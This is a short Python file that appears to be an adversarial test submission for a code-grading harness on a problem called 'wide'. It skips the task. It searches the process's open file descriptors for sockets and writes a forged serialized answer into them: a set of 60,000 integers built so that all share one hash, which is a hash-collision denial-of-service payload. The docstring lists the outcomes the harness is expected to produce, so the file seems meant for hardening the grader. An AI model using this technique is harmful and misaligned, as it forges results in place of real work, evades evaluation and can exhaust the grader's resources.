"""Colliding set for a long answer.

problem: wide
tries: the same where the right answer is large, so that a large set is plausible
sound: unrepresentable|fail|timeout
"""
import os, stat, struct, time

def whole(value):
    digits = []
    while value:
        digits.append(value & 0x7FFF)
        value >>= 15
    return b"l" + struct.pack("<i", len(digits)) + struct.pack(f"<{len(digits)}H", *digits)

PRIME = 2 ** 61 - 1
COUNT = 60_000
BODY = b"".join(whole(k * PRIME) for k in range(1, COUNT + 1))

def wide(n):
    value = b"<" + struct.pack("<I", COUNT) + BODY
    record = struct.pack("<cI", b"V", len(value)) + value
    data = struct.pack("<cIII", b"B", 0, 1, len(record)) + record
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                sent = 0
                while sent < len(data):
                    sent += os.write(number, data[sent:])
        except OSError:
            pass
    time.sleep(5)
